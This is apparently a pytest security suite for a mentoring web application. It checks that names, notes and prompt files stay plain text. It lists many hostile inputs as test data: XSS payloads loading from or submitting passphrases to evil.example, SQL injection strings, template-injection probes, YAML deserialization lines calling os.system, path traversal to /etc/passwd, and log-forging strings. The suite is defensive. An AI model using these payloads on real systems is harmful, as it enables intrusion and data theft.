"""E: whatever somebody writes is words, wherever it is shown, kept, mailed or read from a file."""

import logging
import re
import time
import unicodedata
from collections import Counter
from email.header import decode_header
from urllib.parse import quote

import nh3
import pytest
from acting import letters
from conftest import URL, make_pair, plan_meeting

from attacks.world import address, elements, furnish, ids_of, routes
from companion import db, text
from companion.errors import Invalid
from companion.meetings import pages
from companion.meetings.models import AgendaItem, Meeting, Recap
from companion.people.models import Person, read_name
from companion.prompts.models import Malformed, read, read_file
from companion.reflections.models import Insight

XSS = """
<script>alert(1)</script>
"><script src=//evil.example></script>
'><img src=x onerror=alert(1)>
</textarea><svg onload=alert(1)>
</title><body onload=alert(1)>
<img src="https://evil.example/seen.gif">
<iframe srcdoc="<script>alert(1)</script>">
<a href="javascript:alert(1)">x</a>
<a href=" &#106;avascript:alert(1)">x</a>
<form action=//evil.example><input name=passphrase>
<button formaction=//evil.example>x</button>
<base href=//evil.example>
<meta http-equiv=refresh content=0;url=//evil.example>
<link rel=stylesheet href=//evil.example>
<style>*{background:url(//evil.example)}</style>
<p style="position:fixed;inset:0">x</p>
<div id="main" class="spun" hx-swap-oob="true">x</div>
<div hx-get="/settings" hx-trigger="load">x</div>
<div data-hx-post="/settings/code" data-hx-trigger="load">x</div>
<div hx-on::load="alert(1)" hx-vals='js:{x:1}' hx-headers='{"a":1}'>x</div>
<div hx-ext="evil" hx-preserve hx-history-elt hx-disinherit="*">x</div>
<template><script>alert(1)</script></template>
<title>stolen</title><details open ontoggle=alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>--><![CDATA[><img src=x onerror=alert(1)>
<x/onclick=alert(1)>x <input autofocus onfocus=alert(1)>
{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{config}} {{''.__class__}}
%s %(name)s %n {0} {name!r} \\N{BULLET}
[x](javascript:alert(1)) [y](data:text/html,x) ![z](//evil.example/z.png)
<javascript:alert(1)> <//evil.example> [a]: javascript:alert(1)
" onmouseover=alert(1) x=" ' onfocus=alert(1) autofocus '
\\"><img src=x onerror=alert(1)> &lt;script&gt;alert(1)&lt;/script&gt;
""".strip().splitlines()


def harmless(one):
    """An element of a note: from the list of what notes may hold, and carrying nothing else."""
    allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(one.tag, set())
    if one.tag not in text.TAGS | text.HEADINGS or not set(one.given) <= allowed:
        return False
    return any("words" in (outer.given.get("class") or "").split() for outer in one.inside)


def skeleton(html):
    """What a page is made of besides the notes on it: every element with the names of what it carries, counted."""
    return Counter((one.tag, *sorted(one.given)) for one in elements(html) if not harmless(one))


def dangerous(html):
    """Everything on a page that could run, load, or lead out of the house unasked."""
    found = []
    for one in elements(html):
        for name, value in one.given.items():
            value = (value or "").strip()
            plain = re.sub(r"[\s\0]", "", value).casefold()
            leads = name in ("href", "src", "action", "formaction", "srcset", "xlink:href", "poster", "data")
            if leads and not plain.startswith(("/", "#")) or (leads and plain.startswith("//")):
                note = one.tag == "a" and harmless(one) and plain.startswith(("http://", "https://", "mailto:"))
                if not (note and "noopener" in one.given["rel"]):
                    found.append((one.tag, name, value))
            if name.startswith(("on", "style", "data-hx")) or plain.startswith(("javascript:", "vbscript:")):
                found.append((one.tag, name, value))
        if one.tag in ("iframe", "object", "embed", "base", "template", "img", "style", "math"):
            found.append((one.tag,))
    return found


def both_read(app, room, browse):
    """{path: html} of every page of the room, for each of the two."""
    for pair in room:
        client, ids = browse(pair.person), ids_of(pair)
        for rule in routes(app, "GET"):
            if "pair_id" in rule.arguments:
                path = address(rule, ids)
                answer = client.get(path, follow_redirects=True)
                # What is set on paper is no HTML.
                if answer.mimetype == "text/html":
                    yield (pair.role, rule.rule), answer.text
                if path.endswith("/preparation"):
                    for step in ("what", "question", "share"):
                        yield (pair.role, step), client.get(f"{path}?step={step}").text


GROUPS = [XSS[n : n + 3] for n in range(0, len(XSS), 3)]


def test_e1_words_in_any_field_add_nothing_to_any_page(app, people, anne, birgitte, browse):
    def built(words, mentee, mentor):
        room = make_pair(mentee, mentor)
        meeting = furnish(*room, words=words)
        pages = dict(both_read(app, room, browse))
        for step in range(5):
            meeting.go_to(step)
            for pair in room:
                page = browse(pair.person).get(f"/pairs/{pair.id}/meetings/{meeting.id}").text
                pages[pair.role, f"step {step}"] = page
        return pages

    usual = built("words", people["christian"], people["dorte"])
    expected = {place: skeleton(html) for place, html in usual.items()}
    for group in GROUPS:
        words = " ".join(group)[:119].strip()
        assert len(words) > 40
        for place, html in built(words, anne, birgitte).items():
            assert dangerous(html) == [], (place, words)
            extra = skeleton(html) - expected[place]
            assert extra == Counter(), (place, words)


def test_e4_a_name_is_a_name_on_every_page(app, room, anne, birgitte, browse):
    furnish(*room)
    expected = {place: skeleton(html) for place, html in both_read(app, room, browse)}
    for group in GROUPS:
        name = " ".join(group)[:100].strip()
        anne.settle(name=name, language="en", timezone="Europe/Copenhagen")
        for place, html in both_read(app, room, browse):
            assert dangerous(html) == [], (place, name)
            assert skeleton(html) == expected[place], (place, name)
        page = browse(birgitte).get("/pairs").text
        assert name in "".join(one.text for one in elements(page) if one.tag == "main")


@pytest.mark.parametrize("words", XSS, ids=range(len(XSS)))
def test_e3_a_rendered_note_read_again_by_a_browser_is_what_it_was(words):
    for written in (
        words,
        f"> {words}",
        f"- {words}\n  - {words}",
        f"# {words}",
        f"**{words}** `{words}`",
        f"    {words}",
    ):
        html = text.render(written)
        # nh3 reads HTML as a browser does: nothing is left to tidy up, and nothing comes to life.
        assert nh3.clean(html, tags=text.TAGS | text.HEADINGS, attributes={"a": {"href"}, "ol": {"start"}},
                         link_rel="nofollow noopener noreferrer ugc") == html  # fmt: skip
        for one in elements(html):
            assert one.tag in text.TAGS | text.HEADINGS
            assert set(one.given) <= {"href", "rel", "start"}
        assert dangerous(f'<div class="words">{html}</div>') == []


def test_e1_words_typed_wrong_come_back_as_words(app, room, anne, birgitte, browse):
    meeting = furnish(*room)
    pair, path = f"/pairs/{meeting.pair_id}", f"/pairs/{meeting.pair_id}/meetings/{meeting.id}"
    for words in ("".join(group) for group in GROUPS):
        long = (words + " ") * 200
        answers = [
            browse(anne).post(f"{path}/agenda", {"title": long}),
            browse(anne).post(f"{path}/agenda", {"title": long}, htmx=True),
            browse(anne).post(
                f"{path}/plan", {"title": words, "place": words, "day": words, "time": words, "form": words}
            ),
            browse(anne).post(
                f"{pair}/actions", {"cue": words, "act": "", "want": words, "look_on": words, "back": words}
            ),
            browse(anne).post(f"{path}/recap/since", {"text": words, "rev": "99", "page": words, "style": words}),
            browse(anne).post(f"{path}/recap/since", {"text": words, "rev": "99"}, htmx=True),
            browse(birgitte).post(f"{pair}/offers", {"offer": long, "back": words}),
            browse(anne).post("/pairs", {"email": words, "role": words}),
            browse(anne).post("/settings", {"name": words * 9, "language": words, "timezone": words}),
            browse().post(
                "/sign-up", {"name": words, "email": words, "offered": words, "own": words, "invitation": words}
            ),
            browse().post("/forgot", {"email": words, "code": words, "passphrase": words}),
            browse().post(f"{path}/agenda", {"title": long, words: words}),
            browse(anne).post(f"{path}/agenda", {"title": long, words: words}, headers={"Sec-Fetch-Site": "none"}),
            browse(anne).post("/nowhere", {words: words, "text": long}),
            browse(anne).client.get("/nowhere", base_url=URL, query_string={words: words}),
            browse(anne).client.get(f"{pair}/prompts/", base_url=URL, query_string={"theme": words, "step": words}),
        ]
        for answer in answers:
            assert answer.status_code < 500
            assert dangerous(answer.text) == [], (words, answer.request.path)


def test_e2_no_picture_is_loaded_from_a_note(room, anne, browse):
    meeting = furnish(*room)
    for words in (
        "![x](https://evil.example/a.png)",
        "![x][y]\n\n[y]: https://evil.example",
        "<img src=//evil.example>",
    ):
        Insight.note(meeting, words, shared=True)
    meeting.begin()
    page = browse(anne).get(f"/pairs/{meeting.pair_id}/meetings/{meeting.id}").text
    sources = [one for one in elements(page) if one.tag in ("img", "picture", "source", "video", "audio", "image")]
    assert sources == []
    assert [
        one.given["href"] for one in elements(page) if one.tag == "use" and not one.given["href"].startswith("/")
    ] == []


def test_e6_a_template_is_words(app, room, anne, birgitte, browse):
    words = "{{8317*4649}} {%print(8317*4649)%} {{config}} ${8317*4649} #{8317*4649} %(operator)s {0.__class__}"
    assert len(words) < 120
    meeting = furnish(*room, words=words)
    meeting.begin()
    pages = "".join(html for _place, html in both_read(app, room, browse))
    assert "{{8317*4649}}" in pages
    assert not re.search(r"38665733|COMPANION_|&lt;(Config|class)", pages.replace("&#39;", "'"))


# Names.

INVISIBLE = [
    "",
    " ",
    "\u200b",
    "\u200d\u200c",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u3164",
    "\u115f",
    "\u2800",
    "\u202e",
    "\ufe0f",
]
INVISIBLE += ["\u0301", "\u034f", "\U000e0041", "\t\n", "\u2028", "\u00a0", "\u3000", "\u2800\u3164 \u200b"]


@pytest.mark.parametrize("name", [*INVISIBLE, "\ud800", "Anne\nHolm", "Anne\x1b[31m", "Anne\u2028Holm", "x" * 5_000, "x" * 101], ids=ascii)  # fmt: skip  # noqa: E501
def test_e4_what_nobody_can_see_or_say_is_no_name(anne, browse, name):
    with pytest.raises(Invalid):
        read_name(name)
    if "\ud800" not in name:
        typed = {"name": name, "language": "en", "timezone": "Europe/Copenhagen"}
        assert browse(anne).post("/settings", typed).status_code == 422
    assert Person.get_by_id(anne.id).name == "Anne Holm"


ODD = [
    "Ændr Ø'Brien-Åse",
    "李小龍",
    "عمر",
    "\u202eenna",
    "A\u0301\u0302\u0303" * 9,
    "👩🏽\u200d🚀",
    "Ann\u200de",
    "O",
    "%s",
    "100 % {x}",
]


@pytest.mark.parametrize("name", ODD, ids=ascii)
def test_e15_a_name_is_kept_as_it_was_written_and_turns_nothing_around_it(app, room, anne, birgitte, browse, name):
    furnish(*room)
    anne.settle(name=name, language="en", timezone="Europe/Copenhagen")
    assert Person.get_by_id(anne.id).name == unicodedata.normalize("NFC", name)
    turns = any(unicodedata.bidirectional(letter) in ("R", "AL", "RLO", "RLE", "RLI") for letter in name)
    page = browse(birgitte).get(f"/pairs/{room[0].id}").text
    shown = unicodedata.normalize("NFC", name)
    heading = next(one.text for one in elements(page) if one.tag == "h1")
    assert (f"\u2068{shown}\u2069" if turns else shown) in heading


def test_e15_two_names_that_look_alike_are_two_people(room, anne, birgitte, browse):
    birgitte.settle(name="Аnne Holm", language="en", timezone="Europe/Copenhagen")
    meeting = furnish(*room)
    page = browse(anne).get(f"/pairs/{room[0].id}/meetings/{meeting.id}").text
    assert "Аnne Holm" in page
    assert "Anne Holm" in page


TEXTS = [
    "e\u0301 and é", "👩🏽\u200d🚀🇩🇰", "z\u0300\u0301\u0302\u0303" * 200, "\u202eback\u202c", "עברית", "tab\there",
    "\u200b", "\ufffe\uffff", "line\u2028separator", "a\u00a0b", "𝕬𝖓𝖓𝖊", "\u0000null", "\r\n\r\n",
]  # fmt: skip


@pytest.mark.parametrize("words", TEXTS, ids=ascii)
def test_e15_a_note_is_kept_exactly_as_it_was_written(room, anne, browse, words):
    meeting = plan_meeting(room[0])
    path = f"/pairs/{meeting.pair_id}/meetings/{meeting.id}"
    assert browse(anne).post(f"{path}/recap/since", {"text": words, "rev": "0"}).status_code == 303
    assert Recap.on(meeting)["since"].text == words.replace("\0", "").replace("\r\n", "\n")
    assert browse(anne).get(path).status_code == 200


@pytest.mark.parametrize(
    "raw", [b"\xed\xa0\x80", b"\xff\xfe", b"\xc0\xaf", b"%ED%A0%80", b"%FF", b"%00", b"%u0041", b"\xf4\x90\x80\x80"]
)
def test_e15_bytes_that_are_no_letters_break_nothing(room, anne, browse, raw):
    meeting = plan_meeting(room[0])
    path = f"/pairs/{meeting.pair_id}/meetings/{meeting.id}"
    for field in ("text", "title", "email", "name", "cue", "insight"):
        for place in (f"{path}/recap/since", f"{path}/agenda", "/pairs", "/settings", f"{path}/insights"):
            kind = "application/x-www-form-urlencoded"
            answer = browse(anne).post(place, data=field.encode() + b"=" + raw + b"&rev=0", content_type=kind)
            assert answer.status_code in (303, 409, 422, 429), place
    assert browse(anne).get(f"{path}?x={quote(raw)}").status_code == 200


# SQL, logs, letters.

SQL = [
    "'",
    "' OR '1'='1",
    "1; DROP TABLE meeting",
    "%",
    "_",
    "\\",
    "NULL",
    "0x41",
    "1e999",
    "UNION SELECT * FROM person",
    "--",
]


def test_e10_a_query_is_words_too(app, room, anne, birgitte, browse):
    furnish(*room)
    client, tables = browse(birgitte), db.db.get_tables()
    plain = client.get(f"/pairs/{room[0].id}/prompts/?theme=&step=").text
    for words in SQL:
        answer = client.client.get(
            f"/pairs/{room[0].id}/prompts/", base_url=URL, query_string={"theme": words, "step": words}
        )
        assert answer.status_code == 200
        assert answer.text.count("prompt__question") == plain.count("prompt__question")
        for path in (
            f"/pairs/{words}",
            f"/pairs/{room[0].id}/meetings/{words}",
            f"/pairs/{room[0].id}/actions/{words}",
        ):
            assert client.get(path).status_code == 404
        assert client.post(f"/pairs/{room[0].id}/prompts/{words}/choice").status_code == 404
        assert browse().post("/sign-in", {"email": words, "passphrase": words}).status_code in (422, 429)
    assert db.db.get_tables() == tables
    assert Meeting.select().exists()


def test_e14_nobody_writes_a_line_of_their_own_into_the_log(app, anne, birgitte, browse, caplog, capfd, settings):
    caplog.set_level(logging.INFO)
    forged = "x\r\nERROR:root:forged"
    client = browse(anne)
    app.testing = False
    db.db.execute_sql("ALTER TABLE pair RENAME TO elsewhere")
    for path in (
        f"/pairs/{anne.id}/prompts/x%0d%0aERROR:root:forged%1b[31m/choice",
        "/pairs?x=%0d%0aERROR:root:forged",
    ):
        send = client.post if path.endswith("choice") else client.get
        headers = {"User-Agent": "ERROR:root:forged", "X-Forwarded-For": "ERROR:root:forged"}
        assert send(path, headers=headers).status_code == 500
    db.db.execute_sql("ALTER TABLE elsewhere RENAME TO pair")
    client.post("/settings", {"name": forged, "language": "en", "timezone": "Europe/Copenhagen"})
    client.post("/pairs", {"role": "mentee", "email": "forged@example.dk"})
    letters(settings)
    said = capfd.readouterr()
    assert "Broken" in caplog.text
    for place in (caplog.text, said.out, said.err):
        assert "forged" not in place
        assert "\x1b" not in place


def test_e14_nor_does_what_an_error_says_of_anybodys_words_stand_in_it(
    app, room, anne, browse, caplog, capfd, monkeypatch
):
    meeting = plan_meeting(room[0], form="theme", title="zebraer i entreen")

    def broken(pair, meeting):
        try:
            {}[meeting.subject]
        except KeyError as problem:
            raise ValueError(meeting.subject) from problem

    client = browse(anne)
    app.testing = False
    monkeypatch.setattr(pages, "planned", broken)
    assert client.get(f"/pairs/{room[0].id}/meetings/{meeting.id}").status_code == 500
    said = capfd.readouterr()
    for place in (caplog.text, said.out, said.err, *(repr(vars(record)) for record in caplog.records)):
        assert "entreen" not in place
    # Where it broke, and on what, is told all the same.
    for part in ("Broken: meetings.show [GET]", "ValueError", "KeyError", "in broken"):
        assert part in caplog.text


def test_e11_a_letter_carries_no_name_and_no_subject_of_anybodys(settings, anne, browse):
    anne.settle(name="Zebra Entreen", language="en", timezone="Europe/Copenhagen")
    browse(anne).post("/pairs", {"role": "mentee", "email": "eva@example.dk"})
    browse().post("/forgot/letter", {"email": anne.email})
    sent = letters(settings)
    assert len(sent) == 2
    for letter in sent:
        whole = letter.as_string() + letter.get_content() + str(decode_header(letter["Subject"]))
        assert "Zebra" not in whole
        assert "Entreen" not in whole


# How long it takes.


def nested(sign, n):
    return "\n".join(sign * depth + "a" for depth in range(1, int((2 * n) ** 0.5)))


REPEATED = [
    "*", "_", "**", "***", "*a ", "*a", "_a", "**a", "*a**b", "*a_b", "***a**b*", "`", "`a", "\\`", "[", "](", "[a](",
    "[a](b", "[a](<", "[[a](b)", "![", "<", "<a", "<http://", "<a@", "<!--", "&", "&#", "&a;", ">", "> ", ">a\n", "> a\n\n",  # noqa: E501
    "- ", "- a\n", "-\n", "1. ", "1. a\n", "    a\n", "#", "# a\n", "a\n===\n", "---\n", "- - ", "=\n", "a\n", "a\n\n",
    "\n", " ", "  \n", "***\n", "* * *\n", "___\n", "\x02", "\x02klzzwxh:0000\x03", "a\\\n", "{", "|", "~", "\"", "😀",
    "> - ", ">1. ", "- >", "\n*", "\n>", "a [", "a `", "[a]: b\n", "*[a]: b\n", "[^1]", "http://a ", "a@b.c ",
]  # fmt: skip
GROWING = {
    "ticks": lambda n: " ".join("`" * k for k in range(1, int((2 * n) ** 0.5))),
    "brackets": lambda n: "[" * (n // 2) + "]" * (n // 2),
    "stars around": lambda n: "*" * (n // 2) + "a" + "*" * (n // 2),
    "quotes": lambda n: nested(">", n),
    "lists": lambda n: "\n".join("    " * depth + "* a" for depth in range(int((n / 2) ** 0.5))),
    "spaces": lambda n: "[a](" + " " * n + "b)",
    "one address": lambda n: "<http://" + "a" * n + ">",
}


def cost(written):
    """The least CPU time of three that rendering takes."""

    def once():
        start = time.process_time()
        text.render(written)
        return time.process_time() - start

    return min(once() for _ in range(3))


def grows(make):
    """How many times as much four times the text costs; a few milliseconds are nothing."""
    return (cost(make(10_000)[:10_000]) - 0.003) / max(cost(make(2_500)[:2_500]), 0.001)


@pytest.mark.parametrize("sign", REPEATED, ids=ascii)
def test_e16_no_sign_repeated_costs_more_than_its_length(sign):
    # Linear is 4, the square 16.
    assert grows(lambda n: sign * (n // len(sign) + 1)) < 10


@pytest.mark.parametrize("shape", GROWING)
def test_e16_no_nesting_costs_more_than_its_length(shape):
    assert grows(GROWING[shape]) < 10


BOMBS = [">" * 60 + "a\n\nb\n\n", "> " * 40 + "a\n\nb\n\n", "- " * 60 + "a\n\nb\n\n", "<a@b>", "[a](http:b)", "&", "🦊",
         ">- " * 30 + "a\n\nb\n\n", "1. " * 40 + "a\n\nb\n\n", '"', "<http://ø>", "*a*"]  # fmt: skip


@pytest.mark.parametrize("sign", BOMBS, ids=lambda sign: ascii(sign[:9]))
def test_i10_ten_thousand_signs_are_never_too_much_to_be_kept_and_shown(room, anne, browse, sign):
    meeting = plan_meeting(room[0], days=-1)
    meeting.begin()
    path = f"/pairs/{meeting.pair_id}/meetings/{meeting.id}"
    words = (sign * 10_000)[:10_000]
    assert browse(anne).post(f"{path}/recap/since", {"text": words, "rev": "0"}).status_code == 303
    for step in ("since", "what", "so_what", "question", "now_what"):
        assert browse(anne).post(f"{path}/preparation/{step}", {"text": words, "rev": "0"}).status_code == 303
    assert browse(anne).post(f"{path}/preparation/sharing", {"share": "all"}).status_code == 303
    meeting.go_to(1)
    page = browse(anne).get(path)
    assert page.status_code == 200
    # One note is at most a dozen times what was typed.
    assert len(Recap.on(Meeting.find(room[0], meeting.id))["since"].html("text")) <= text.LARGEST


@pytest.mark.parametrize("written", ["1. " * 3_333, "<a@b>" * 2_000, (">" * 60 + "a\n\nb\n\n") * 150])
def test_e16_what_would_be_nested_too_deep_is_shown_as_it_was_typed(written):
    html = text.render(written)
    assert html.startswith("<pre>")
    assert elements(html)[0].text == written.rstrip("\n") or elements(html)[0].text == written


# Prompts are files, and files are words.

GOOD = """---
theme: us
stage: opening
stance: 3
asker: mentor
depth: 1
da: "Hvad skal vi tage først?"
en: "What shall we take first?"
---
"""


@pytest.fixture
def folder(tmp_path):
    (tmp_path / "us").mkdir()
    return tmp_path


def write(folder, content, name="first.md"):
    path = folder / "us" / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


PLANTED = [
    "!!python/object/apply:os.system ['touch /tmp/x']",
    "!!python/name:os.system",
    "!!python/object/new:subprocess.Popen [x]",
    "!!binary aGVsbG8=",
    "&a [x]",
    "*a",
    "{<<: *a}",
    "[" * 900 + "]" * 900,
    "{a: " * 900 + "}" * 900,
    "2001-02-30 25:61:61",
    "x\n__class__: x",
    "x y z\nid: ../../etc/passwd",
]


@pytest.mark.parametrize("planted", PLANTED, ids=lambda planted: planted[:20])
def test_e7_e8_a_prompt_that_is_more_than_words_stops_the_start_and_is_named(folder, planted):
    write(folder, GOOD.replace('"What shall we take first?"', planted))
    with pytest.raises(Malformed, match=r"^us/first\.md, line \d+: ") as problem:
        read(folder)
    assert len(str(problem.value)) < 200


def test_e8_a_large_file_is_not_even_read(folder):
    path = write(folder, GOOD)
    with path.open("ab") as file:
        file.truncate(10_000_000)
    with pytest.raises(Malformed, match="at most"):
        read_file(path)


@pytest.mark.parametrize(
    "content", [b"", b"---\n", b"x", b"\xff\xfe", b"\x00" * 100, b"---\n---\n", b"---\n\x00: \x01\n---\n"]
)
def test_e8_what_is_no_prompt_is_named(folder, content):
    write(folder, content)
    with pytest.raises(Malformed, match=r"us/first\.md, line \d+"):
        read(folder)


@pytest.mark.parametrize(
    "name",
    [
        "a b.md",
        "Ærlig.md",
        "UPPER.md",
        "a.b.md",
        "a_b.md",
        "-a.md",
        "a--b.md",
        "x" * 90 + ".md",
        "a'b.md",
        ".hidden.md",
        "a\nb.md",
    ],
)
def test_e9_a_name_that_is_no_name_of_a_prompt_is_named(folder, name):
    write(folder, GOOD, name)
    with pytest.raises(Malformed, match=r"line 1: "):
        read(folder)


PATHS = [
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "x%00.md",
    "/etc/passwd",
    "%2e%2e",
    "us%2ffirst",
    "x" * 5_000,
    ".",
]


@pytest.mark.parametrize("path", PATHS, ids=lambda path: path[:12])
def test_e9_a_prompt_is_found_by_its_name_alone(meeting, birgitte, browse, path):
    client = browse(birgitte)
    for verb in ("choice", "removal"):
        answer = client.post(f"/pairs/{meeting.pair_id}/prompts/{path}/{verb}")
        assert answer.status_code in (303, 308, 404, 405)
        assert answer.status_code != 303 or verb == "removal"
    assert AgendaItem.select().count() == 0


@pytest.mark.parametrize("path", PATHS, ids=lambda path: path[:12])
def test_e9_a_static_file_is_found_in_its_folder_alone(browse, path):
    for place in (
        f"/static/x/{path}",
        f"/static/x/css/{path}",
        f"/static/{path}/css/base.css",
        f"/static/x/css/../../{path}",
    ):
        answer = browse().get(place)
        assert answer.status_code in (200, 308, 404), place
        assert answer.status_code != 200 or answer.mimetype == "text/css"
        assert "root:" not in answer.text
